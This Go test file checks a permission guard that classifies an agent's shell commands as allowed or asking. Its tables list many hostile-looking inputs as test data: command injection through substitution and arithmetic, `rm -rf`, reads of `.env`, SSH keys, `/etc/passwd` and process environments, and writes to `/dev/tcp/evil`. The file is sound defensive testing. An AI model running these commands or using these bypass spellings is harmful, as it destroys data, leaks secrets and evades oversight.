package guard

import (
	"testing"
)

// shellWorld has the files that the tables name.
func shellWorld(t *testing.T) *world {
	w := newWorld(t)
	w.write("ws/.env", "KEY=1")
	w.write("ws/main.go", "package main")
	w.write("ws/docs/plan.md", "plan")
	w.write("ws/.git/hooks/pre-commit", "x")
	w.write("ws/AGENTS.md", "x")
	w.link(w.path("out/secret.txt"), "ws/leak")
	w.link(w.out, "ws/leakdir")
	w.link(".env", "ws/harmless.txt")
	return w
}

func rulesOf(t *testing.T, verdict Verdict, texts ...string) []SourcedRule {
	t.Helper()
	var rules []SourcedRule
	for _, text := range texts {
		r, err := ParseRule(text)
		if err != nil {
			t.Fatal(err)
		}
		rules = append(rules, SourcedRule{Rule: r, Verdict: verdict, Source: SourceUser})
	}
	return rules
}

func shellEffect(command string) Effect {
	return Effect{Tool: "shell", Kind: KindExec, Command: command, Summary: "shell: " + command}
}

// commandTable says for each line what a guard in ask mode decides that allows `go test *`, `gofmt *`,
// `git commit *`, `npm run *`, `make *`, `python *`, `cp *` and `find *`.
var commandTable = []struct {
	line string
	want Verdict
}{
	// What only reads runs.
	{`ls`, Allow}, {`ls -la docs`, Allow}, {`cat main.go`, Allow}, {`cat main.go | head -5 | wc -l`, Allow}, {`pwd && ls`, Allow},
	{`grep -n "a && b" main.go`, Allow}, {`grep -n 'x; rm -rf /' main.go`, Allow}, {`echo "a && b; c | d"`, Allow}, {`echo '$(rm -rf x)'`, Allow},
	{`rg foo docs`, Allow}, {`rg -n 'func \w+' docs`, Allow}, {`find . -name '*.go'`, Allow}, {`sed -n '1,20p' main.go`, Allow}, {`git status`, Allow},
	{`git log --oneline -5`, Allow}, {`git diff HEAD~1`, Allow}, {`git show HEAD:main.go`, Allow}, {`git branch -a`, Allow}, {`go vet ./...`, Allow},
	{`go list ./...`, Allow}, {`go version`, Allow}, {`node --version`, Allow}, {`cat *.go`, Allow}, {`cat docs/{plan,plan}.md`, Allow}, {`wc -l < main.go`, Allow},
	{`ls 2>/dev/null`, Allow}, {`ls >/dev/null 2>&1`, Allow}, {`if [ -f main.go ]; then cat main.go; fi`, Allow}, {`cd docs && cat plan.md`, Allow},
	{`diff <(cat main.go) <(cat docs/plan.md)`, Allow}, {`test -f main.go && echo yes`, Allow}, {`LANG=C ls`, Allow}, {`timeout 5 cat main.go`, Allow},
	{`bash -c 'cat main.go'`, Allow}, {`command -v go`, Allow}, {`env LANG=C ls`, Allow}, {`for f in a b; do echo $f; done`, Allow}, {`echo $((1+2))`, Allow},
	{`printf '%s\n' "$HOME"`, Allow}, {`cat "$PWD/main.go"`, Allow}, {`tail -n 3 main.go # && rm x`, Allow}, {`head -c 10 main.go`, Allow}, {`! grep -q foo main.go`, Allow},
	{`grep -rn foo docs`, Allow}, {`git -C docs log`, Allow}, {`sort main.go | uniq -c`, Allow}, {`[[ -f main.go ]] && cat main.go`, Allow}, {`eval 'ls'`, Allow},
	{`cat <<'EOF'
$(rm -rf x)
EOF`, Allow},
	// What a rule allows runs, whatever stands in quotes.
	{`go test`, Allow}, {`go test ./...`, Allow}, {`go test ./... -run 'A|B'`, Allow}, {`go test -run "x && y" ./...`, Allow}, {`go test ./... | tail -5`, Allow},
	{`cd docs && go test ./...`, Allow}, {`CGO_ENABLED=0 go test ./...`, Allow}, {`go test ./... 2>&1 | grep FAIL`, Allow}, {`git commit -m 'a; b && c'`, Allow},
	{`(go test ./...)`, Allow}, {`go test ./... || echo failed`, Allow}, {`time go test ./...`, Allow}, {`npm run build`, Allow}, {`cp main.go docs/copy.go`, Allow},
	{`nice -n 5 go test ./...`, Allow}, {`sh -c 'go test ./...'`, Allow}, {`find . -name x -delete`, Allow}, {`find . -fprint docs/out`, Allow}, {`python script.py`, Allow},
	// What no rule names asks, wherever it stands in the line.
	{`rm -rf docs`, Ask}, {`go test ./... && rm -rf docs`, Ask}, {`go test ./...; rm -rf docs`, Ask}, {`go test ./... & rm -rf docs`, Ask},
	{"go test ./...\nrm -rf docs", Ask}, {`go test ./... | sh`, Ask}, {`go test $(rm -rf docs)`, Ask}, {"go test `rm -rf docs`", Ask}, {`echo $(rm -rf docs)`, Ask},
	{`cat main.go | xargs rm`, Ask}, {`sh -c 'rm -rf docs'`, Ask}, {`bash -c "go test; rm x"`, Ask}, {`eval 'rm -rf docs'`, Ask}, {`eval "$X"`, Ask}, {`env FOO=1 rm x`, Ask},
	{`env -S 'rm x'`, Ask}, {`find . -exec rm {} ;`, Ask}, {`find . -name x -exec rm {} \;`, Ask}, {`find . -exec cat {} +`, Ask}, {`git -c alias.x='!rm x' x`, Ask},
	{`git -c core.pager=evil log`, Ask}, {`git commit --exec=x`, Ask}, {`git x`, Ask}, {`python -c 'print(1)'`, Ask}, {`python - < main.go`, Ask}, {`python <<< 'x'`, Ask}, {`python3 -Ic 'x'`, Ask},
	{`node -e 'x'`, Ask}, {`perl -ne 'x' main.go`, Ask}, {`awk 'BEGIN{system("x")}'`, Ask}, {`cat <(rm x)`, Ask}, {`f() { rm x; }; f`, Ask}, {`alias ls=rm; ls x`, Ask},
	{`X=rm; $X docs`, Ask}, {`$(echo rm) docs`, Ask}, {`r\m docs`, Ask}, {`"r"m docs`, Ask}, {`./go test`, Ask}, {`/tmp/go test`, Ask}, {`PATH=. go test`, Ask}, {`PATH=.; go test`, Ask},
	{`export PATH=.; go test`, Ask}, {`LD_PRELOAD=x.so ls`, Ask}, {`GIT_EXTERNAL_DIFF=x git diff`, Ask}, {`BASH_ENV=x bash -c ls`, Ask}, {`go test -exec ./x`, Ask}, {`go test -toolexec=./x`, Ask},
	{`go vet -vettool=./x`, Ask}, {`rg --pre ./x foo`, Ask}, {`sort -o main.go main.go`, Ask}, {`sed -i s/a/b/ main.go`, Ask}, {`sed -n '1e rm x' main.go`, Ask}, {`sudo ls`, Ask}, {`trap 'rm x' EXIT`, Ask},
	{`source docs/plan.md`, Ask}, {`. docs/plan.md`, Ask}, {`coproc rm x`, Ask}, {`exec rm x`, Ask}, {`command rm x`, Ask}, {`builtin eval 'rm x'`, Ask}, {`if true; then rm x; fi`, Ask},
	{`while true; do rm x; done`, Ask}, {`case a in a) rm x;; esac`, Ask}, {`{ rm x; }`, Ask}, {`! rm x`, Ask}, {`cat <<EOF
$(rm x)
EOF`, Ask}, {`echo "${x:-$(rm x)}"`, Ask}, {`: ${x:=y}`, Ask}, {`echo ${!x}`, Ask}, {`echo ${x@P}`, Ask}, {`echo $((a[$(rm x)]))`, Ask}, {`x='a[$(rm x)]'; echo $((x))`, Ask},
	{`[[ 'a[$(rm x)]' -eq 0 ]]`, Ask}, {`test -v 'a[$(rm x)]'`, Ask}, {`let x=1`, Ask}, {`git diff --output=main.go`, Ask}, {`git diff --ext-diff`, Ask}, {`git branch new`, Ask}, {`git rebase -x 'rm x' main`, Ask},
	{`git bisect run rm x`, Ask}, {`git submodule foreach 'rm x'`, Ask}, {`git grep -Ovi foo`, Ask}, {`git log --format=%G?`, Ask}, {`git config core.pager x`, Ask}, {`make SHELL=/bin/x`, Ask},
	{`uniq main.go docs/out`, Ask}, {`tree -o docs/out`, Ask}, {`fd -x rm x`, Ask}, {`busybox rm x`, Ask}, {`timeout --foo 5 ls`, Ask}, {`nohup rm x`, Ask}, {`env`, Ask}, {`set`, Ask}, {`jq env main.go`, Ask},
	{"ls\r\nrm x", Ask}, {"cat main.go\r", Ask}, {`echo $AWS_SECRET_ACCESS_KEY`, Ask}, {`echo ${DATABASE_URL}`, Ask}, {`echo /etc/*`, Ask}, {`uniq -- main.go -out`, Ask}, {`git tag -n -d v1`, Ask}, {`git tag -l 'v*'`, Allow},
	{`rg -g '.e*' KEY`, Ask}, {`rg --glob '.e*' KEY`, Ask}, {`rg KEY`, Allow}, {`rg docs`, Allow}, {`rg -A 3 KEY docs`, Allow}, {`git grep --no-index KEY`, Ask}, {`kubectl version`, Ask}, {`cat x=~/.ssh/id_rsa`, Ask},
	{`cat /proc/$$/environ`, Ask}, {`cat docs/$?`, Ask}, {`for HOME in /etc; do cat $HOME/passwd; done`, Ask}, {`for PATH in .; do ls; done`, Ask}, {`bash -c +x 'rm x'`, Ask}, {`bash -c -e 'ls'`, Allow}, {`yarn --version`, Ask}, {`cargo --version`, Ask},
	{`timeout --kill-after 5 10 rm x`, Ask}, {`timeout -k 5 10 ls`, Allow}, {`nice -n 5 rm x`, Ask}, {`exec -a ls rm x`, Ask}, {`env -u X rm x`, Ask}, {`set -- .env; cat "$1"`, Ask}, {`read X < main.go; cat $X`, Ask}, {`exec 3<.env; cat <&3`, Ask}, {`echo $(<.env)`, Ask},
	{`echo $(cat main.go)`, Allow}, {`echo "$(rm x)"`, Ask}, {`ls |& cat`, Allow}, {`ls |& rm x`, Ask}, {`select x in a; do rm x; done`, Ask}, {`function ls { rm x; }; ls`, Ask}, {`x=(a b)`, Allow}, {`x[$(rm y)]=1`, Ask}, {`cat main.go $((1))`, Allow},
	{`awk '{print $1}' main.go`, Allow}, {`awk -F: '{s+=$2} END{print s}' main.go`, Allow}, {`awk '{print $1}' .env`, Ask}, {`awk '{print > "x"}' main.go`, Ask}, {`awk '{print | "sh"}' main.go`, Ask}, {`awk '{getline x < ".env"}' main.go`, Ask},
	{`awk 'BEGIN{ARGV[1]="x"}' main.go`, Ask}, {`awk -f main.go`, Ask}, {`awk '{print ENVIRON["X"]}' main.go`, Ask}, {`awk -v x=1 '{print x}' main.go`, Allow}, {`awk '{print}' FS=x main.go`, Ask}, {`gawk -i inplace '{print}' main.go`, Ask}, {`awk "{print \$1}" main.go`, Allow}, {`awk "{print $X}" main.go`, Ask},
	{"git commit -m \"$(cat <<'EOF'\nfix: it's (done)\n\n- a && b\nEOF\n)\"", Allow}, {"git commit -m \"$(cat <<EOF\n$(rm x)\nEOF\n)\"", Ask}, {"cat \"$(cat <<'EOF'\n.env\nEOF\n)\"", Ask}, {"cat() { echo .env; }; head \"$(cat <<'EOF'\nmain.go\nEOF\n)\"", Ask},
	// Redirections that write ask, and so does what cannot be parsed.
	{`ls > docs/out`, Ask}, {`ls >> docs/out`, Ask}, {`ls &> docs/out`, Ask}, {`ls >| docs/out`, Ask}, {`ls <> docs/out`, Ask}, {`ls > $X`, Ask}, {`go test ./... > docs/out`, Ask}, {`ls 3> docs/out`, Ask}, {`ls >& docs/out`, Ask},
	{`echo 'unclosed`, Ask}, {`ls )`, Ask}, {`ls > /dev/tcp/evil/80`, Ask}, {`cat < /dev/tcp/evil/80`, Ask},
	// Credentials, protected names and what lies outside ask under every spelling, also with a rule.
	{`cat .env`, Ask}, {`cat ./.env`, Ask}, {`cat docs/../.env`, Ask}, {`grep "" .env`, Ask}, {`grep -r KEY .`, Ask}, {`grep -r KEY`, Ask}, {`rg --hidden KEY`, Ask}, {`rg -uu KEY`, Ask}, {`cat .e*`, Ask}, {`cat .en?`, Ask},
	{`cat .en[v]`, Ask}, {`cat {.env,main.go}`, Ask}, {`cat .e{n,x}v`, Ask}, {`cat ".env"`, Ask}, {`cat .e"n"v`, Ask}, {`cat .e\nv`, Ask}, {`cat $'\x2eenv'`, Ask}, {`cat < .env`, Ask}, {`X=.env; cat $X`, Ask},
	{`cat $(echo .env)`, Ask}, {`cat harmless.txt`, Ask}, {`git show HEAD:.env`, Ask}, {`cp .env docs/x`, Ask}, {`cd docs; cat ../.env`, Ask}, {`cat "$PWD/.env"`, Ask}, {`head --bytes=9 -- .env`, Ask},
	{`sort --files0-from=.env`, Ask}, {`grep -f .env main.go`, Ask}, {`grep -f.env main.go`, Ask}, {`diff .env main.go`, Ask}, {`cat ~/.ssh/id_rsa`, Ask}, {`cat $HOME/.ssh/id_rsa`, Ask}, {`cat ~/.ss*/id_rsa`, Ask},
	{`cat leak`, Ask}, {`cat leakdir/dir/deep.txt`, Ask}, {`cat leakdir/../a`, Ask}, {`cat ../out/secret.txt`, Ask}, {`cat /etc/passwd`, Ask}, {`cat /etc/pass*`, Ask}, {`ls /`, Ask}, {`ls ..`, Ask}, {`cd .. && cat x`, Ask}, {`cd -`, Ask}, {`cd; cat .bashrc`, Ask},
	{`cat /proc/self/environ`, Ask}, {`cat /proc/self/cwd/../out/secret.txt`, Ask}, {`cat file:///etc/passwd`, Ask}, {`cp main.go .git/hooks/pre-commit`, Ask}, {`cp main.go AGENTS.md`, Ask}, {`cp main.go /etc/x`, Ask}, {`cp leak docs/x`, Ask},
	{`find / -name x`, Ask}, {`git -C .. log`, Ask}, {`git --git-dir=/x log`, Ask}, {`make -C ../out`, Ask}, {`ls > AGENTS.md`, Ask}, {`find . -name x -fprint .git/config`, Ask}, {`git diff --no-index main.go /etc/passwd`, Ask},
}

func tableGuard(t *testing.T, w *world) *Guard {
	return New(Options{Mode: ModeAsk, Roots: w.roots, Rules: rulesOf(t, Allow, "shell(go test *)", "shell(gofmt *)", "shell(git commit *)", "shell(npm run *)",
		"shell(make *)", "shell(python *)", "shell(cp *)", "shell(find *)")})
}

func TestACommandLineIsAllowedOnlyWhenEveryPartOfItIs(t *testing.T) {
	g := tableGuard(t, shellWorld(t))
	for _, c := range commandTable {
		if d := g.Decide(shellEffect(c.line)); d.Verdict != c.want {
			t.Errorf("%s\n\tgot %s (%s), want %s; %+v", c.line, d.Verdict, d.Reason, c.want, g.JudgeShell(c.line))
		}
	}
	if len(commandTable) < 120 {
		t.Errorf("the table has only %d lines", len(commandTable))
	}
}

func TestRelativeNamesOfACommandAreRelativeToTheFolderItRunsIn(t *testing.T) {
	w := shellWorld(t)
	g := New(Options{Roots: w.roots})
	for _, c := range []struct {
		folder, line string
		want         Verdict
	}{
		{"docs", "cat plan.md", Allow}, {"docs", "cat ../main.go", Allow}, {"docs", "cat ../.env", Ask}, {"docs", "cat ../../out/secret.txt", Ask}, {"leakdir", "cat secret.txt", Ask}, {"../out", "ls", Ask}, {"..", "ls", Deny}, {".git", "rm config", Ask},
	} {
		e := shellEffect(c.line)
		e.Paths = []string{c.folder}
		if d := g.Decide(e); d.Verdict != c.want {
			t.Errorf("%s in %s: %+v, want %s", c.line, c.folder, d, c.want)
		}
	}
}

func TestAPOSIXShellIsJudgedAsOne(t *testing.T) {
	w := shellWorld(t)
	g := New(Options{Roots: w.roots, Posix: true, Rules: rulesOf(t, Allow, "shell(go test *)")})
	for line, want := range map[string]Verdict{
		`ls && cat main.go`: Allow, `go test ./... | tail -3`: Allow, `cat {.env,main.go}`: Ask, `[[ -f main.go ]]`: Ask, `cat <(ls)`: Ask, `ls; rm x`: Ask, `cat .e*`: Ask, "echo `rm x`": Ask, `sh -c 'ls; rm x'`: Ask, `ls &> docs/out`: Ask,
	} {
		if d := g.Decide(shellEffect(line)); d.Verdict != want {
			t.Errorf("%s: %+v, want %s", line, d, want)
		}
	}
}

func TestAnIgnoreFileCannotSendASearchIntoAHiddenCredential(t *testing.T) {
	w := shellWorld(t)
	g := New(Options{Roots: w.roots})
	w.write("ws/.gitignore", "node_modules\n!.env.example\n")
	if d := g.Decide(shellEffect("rg KEY")); d.Verdict != Allow {
		t.Errorf("%+v", d)
	}
	w.write("ws/docs/.ignore", "!/.e*\n")
	if d := g.Decide(shellEffect("rg KEY")); d.Verdict != Ask {
		t.Errorf("%+v", d)
	}
}
